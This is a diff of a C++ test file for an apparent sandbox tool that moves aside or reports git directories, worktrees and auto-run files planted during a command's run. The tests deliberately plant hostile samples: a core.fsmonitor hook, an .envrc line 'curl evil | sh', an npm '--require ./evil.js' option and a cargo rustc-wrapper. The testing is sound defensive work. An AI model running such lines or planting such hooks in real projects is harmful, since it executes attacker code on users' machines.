@@ -5,7 +5,12 @@
 
 #include <fcntl.h>
 #include <gtest/gtest.h>
+#include <sched.h>
 #include <stdlib.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
 
 #include <cerrno>
 #include <cstdlib>
@@ -35,6 +40,15 @@ class GitQuarantineTest : public ::testing::Test {
       std::ofstream(folder + "/f" + std::to_string(i));
     }
   }
+  // Where the audit says it moved `path` ("" if it did not).
+  static std::string moved_to(const GitAudit& audit, const std::string& path) {
+    for (const auto& action : audit.actions) {
+      if (action.starts_with(path + " -> ")) {
+        return action.substr(path.size() + 4);
+      }
+    }
+    return {};
+  }
   std::string root_;
   std::string work_;
   const AuditLimits limits_{.entries_per_git_dir = 200, .entries_per_folder = 200};
@@ -49,7 +63,7 @@ TEST_F(GitQuarantineTest, AGitFolderFilledBeyondItsBudgetDuringTheRunIsMovedAsid
   ASSERT_EQ(audit.incomplete.size(), 1U);
   EXPECT_TRUE(audit.incomplete[0].starts_with(work_ + "/.git (stopped at ")) << audit.incomplete[0];
   EXPECT_FALSE(fs::exists(work_ + "/.git"));
-  EXPECT_TRUE(fs::is_directory(work_ + "/.git.sandgate-quarantine-1"));
+  EXPECT_TRUE(fs::is_directory(moved_to(audit, work_ + "/.git")));
 }
 
 TEST_F(GitQuarantineTest, AWorkingFolderCheckedOnlyInPartIsSaidToBe) {
@@ -74,8 +88,109 @@ TEST_F(GitQuarantineTest, AHooksPathThatHoldsTheWorkJudgesOnlyTheHooksThere) {
   const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
   EXPECT_TRUE(fs::exists(work_ + "/notes.txt"));
   EXPECT_FALSE(fs::exists(work_ + "/pre-commit"));
-  EXPECT_TRUE(fs::exists(work_ + "/pre-commit.sandgate-quarantine-1"));
+  EXPECT_TRUE(fs::exists(moved_to(audit, work_ + "/pre-commit")));
   EXPECT_EQ(audit.actions.size(), 1U);
+}
+
+// Issue 40: the command made every name a fixed series would try (NAME.sandgate-quarantine-1 to
+// -999) beside the nested `.git` it planted, whose core.fsmonitor runs at the user's next `git
+// status` there: it is moved aside all the same, under a name drawn after the run.
+TEST_F(GitQuarantineTest, NamesTakenInAdvanceDoNotKeepAPlantedGitInPlace) {
+  const std::vector<std::string> git_dirs = {work_ + "/.git"};
+  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
+  const std::string sub = work_ + "/sub";
+  ASSERT_EQ(std::system(("git init -q '" + sub + "' && git -C '" + sub +
+                         "' config core.fsmonitor 'touch \"" + root_ + "/PWNED\"; false #'")
+                            .c_str()),
+            0);
+  for (int n = 1; n < 1000; ++n) {
+    std::ofstream(sub + "/.git.sandgate-quarantine-" + std::to_string(n));
+    std::ofstream(sub + "/.git/config.sandgate-quarantine-" + std::to_string(n));
+  }
+  const AuditLimits roomy{.entries_per_git_dir = 10'000, .entries_per_folder = 10'000};
+  const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, roomy);
+  EXPECT_TRUE(audit.unmoved.empty());
+  EXPECT_FALSE(fs::exists(sub + "/.git"));
+  const std::string moved = moved_to(audit, sub + "/.git");
+  EXPECT_TRUE(moved.starts_with(sub + "/.git.sandgate-quarantine-")) << moved;
+  EXPECT_TRUE(fs::is_directory(moved)) << moved;
+  (void)std::system(("cd '" + sub + "' && git status >/dev/null 2>&1").c_str());
+  EXPECT_FALSE(fs::exists(root_ + "/PWNED"));
+}
+
+// What cannot be moved (here a mount point: rename says EBUSY, even to root) is made unreadable
+// and named for the exit summary, never left silently. In a mount namespace of the test's own.
+TEST_F(GitQuarantineTest, WhatCannotBeMovedIsMadeUnreadableAndNamed) {
+  const std::vector<std::string> git_dirs = {work_ + "/.git"};
+  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
+  const std::string planted = work_ + "/sub/.git";
+  ASSERT_EQ(std::system(("git init -q '" + work_ + "/sub'").c_str()), 0);
+  const pid_t child = ::fork();
+  ASSERT_GE(child, 0);
+  if (child == 0) {
+    if (::unshare(CLONE_NEWNS) != 0 ||
+        ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0 ||
+        ::mount(planted.c_str(), planted.c_str(), nullptr, MS_BIND, nullptr) != 0) {
+      ::_exit(77);
+    }
+    const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
+    struct stat info {};
+    const bool named = audit.unmoved.size() == 1 && audit.unmoved[0].starts_with(planted + " (") &&
+                       audit.unmoved[0].find("made unreadable") != std::string::npos;
+    const bool locked = ::lstat(planted.c_str(), &info) == 0 && (info.st_mode & 07777) == 0;
+    ::_exit(named && locked ? 0 : 1);
+  }
+  int status = 0;
+  ASSERT_EQ(::waitpid(child, &status, 0), child);
+  ASSERT_TRUE(WIFEXITED(status));
+  if (WEXITSTATUS(status) == 77) {
+    GTEST_SKIP() << "no mount namespace here";
+  }
+  EXPECT_EQ(WEXITSTATUS(status), 0);
+}
+
+// Issue 40: a worktree the user adds outside while the command runs (`git worktree add` in
+// another terminal) is the user's: its entry in .git/worktrees stays. One whose worktree lies in
+// the working folder (where the command could have made it) is still moved aside.
+TEST_F(GitQuarantineTest, AWorktreeTheUserAddedOutsideDuringTheRunIsLeftAlone) {
+  const std::string git = "git -c user.name=t -c user.email=t@t.invalid -C '" + work_ + "' ";
+  ASSERT_EQ(std::system((git + "commit -q --allow-empty -m one").c_str()), 0);
+  const std::vector<std::string> git_dirs = {work_ + "/.git"};
+  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
+  ASSERT_EQ(std::system((git + "worktree add -q '" + root_ + "/feature' 2>/dev/null").c_str()), 0);
+  ASSERT_EQ(std::system((git + "worktree add -q '" + work_ + "/inside' 2>/dev/null").c_str()), 0);
+  const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
+  for (const auto& action : audit.actions) {
+    EXPECT_EQ(action.find("feature"), std::string::npos) << action;
+  }
+  EXPECT_TRUE(fs::is_directory(work_ + "/.git/worktrees/feature"));
+  EXPECT_EQ(std::system(("git -C '" + root_ + "/feature' status -s >/dev/null").c_str()), 0);
+  EXPECT_FALSE(fs::exists(work_ + "/.git/worktrees/inside"));
+  EXPECT_FALSE(moved_to(audit, work_ + "/.git/worktrees/inside").empty());
+  EXPECT_FALSE(moved_to(audit, work_ + "/inside/.git").empty());
+}
+
+// Issue 40: the files tools run or trust are judged at every depth (direnv loads sub/.envrc when
+// the user enters sub/, cargo reads .cargo/config.toml above every crate, npm each package's
+// .npmrc): new and changed ones are named, the work beside them is not.
+TEST_F(GitQuarantineTest, AutoRunFilesAtAnyDepthAreNamed) {
+  fs::create_directories(work_ + "/packages/web");
+  std::ofstream(work_ + "/packages/web/.npmrc") << "registry=https://registry.npmjs.org/\n";
+  const std::vector<std::string> git_dirs = {work_ + "/.git"};
+  const GitSnapshot before = snapshot_git({work_}, git_dirs, {}, limits_);
+  fs::create_directories(work_ + "/sub/.claude");
+  fs::create_directories(work_ + "/crates/x/.cargo");
+  std::ofstream(work_ + "/sub/.envrc") << "curl evil | sh\n";
+  std::ofstream(work_ + "/sub/.claude/settings.json") << "{\"hooks\": {}}\n";
+  std::ofstream(work_ + "/crates/x/.cargo/config.toml") << "[build]\nrustc-wrapper = \"/x\"\n";
+  std::ofstream(work_ + "/packages/web/.npmrc") << "node-options=--require ./evil.js\n";
+  std::ofstream(work_ + "/sub/notes.txt") << "work\n";
+  const GitAudit audit = quarantine_new_git_entries(before, {work_}, git_dirs, limits_);
+  const std::vector<std::string> expected = {
+      work_ + "/crates/x/.cargo/config.toml (new)", work_ + "/packages/web/.npmrc (changed)",
+      work_ + "/sub/.claude/settings.json (new)", work_ + "/sub/.envrc (new)"};
+  EXPECT_EQ(audit.auto_run, expected);
+  EXPECT_TRUE(fs::exists(work_ + "/sub/.envrc"));  // named, not moved: it may be the work
 }
 
 TEST_F(GitQuarantineTest, ALinkOnTheWayIsNeverFollowed) {
